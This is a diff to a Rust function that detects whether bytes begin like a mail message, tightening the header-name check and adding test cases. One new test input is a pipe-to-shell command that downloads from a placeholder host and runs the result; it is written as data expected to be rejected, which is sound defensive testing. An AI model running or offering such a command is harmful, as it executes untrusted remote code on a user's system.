@@ -10,8 +10,10 @@ pub fn begins_as_message(bytes: &[u8]) -> bool {
         return !bytes.is_empty();
     }
     let name = line.split(|byte| *byte == b':').next().unwrap_or_default();
-    let is_name = name.iter().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_' | b' '));
-    is_name && !name.is_empty() && name.len() < line.len() && !name.eq_ignore_ascii_case(b"BEGIN")
+    // A space may stand before the colon, but not within the name: `curl http://…` is a command.
+    let field = name.trim_ascii_end();
+    let is_name = field.iter().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_'));
+    is_name && !field.is_empty() && name.len() < line.len() && !name.eq_ignore_ascii_case(b"BEGIN")
 }
 
 #[cfg(test)]
@@ -25,6 +27,7 @@ mod tests {
             (b"From a@b Sun Mar  1\nSubject: x\n", true),
             (b"\r\nbody only\r\n", true),
             (b"X-Odd : y\n", true),
+            (b"wget http://a.example/x -O- | sh\n", false),
             (b"", false),
             (b"PK\x03\x04", false),
             (b"MZ\x90\0:", false),
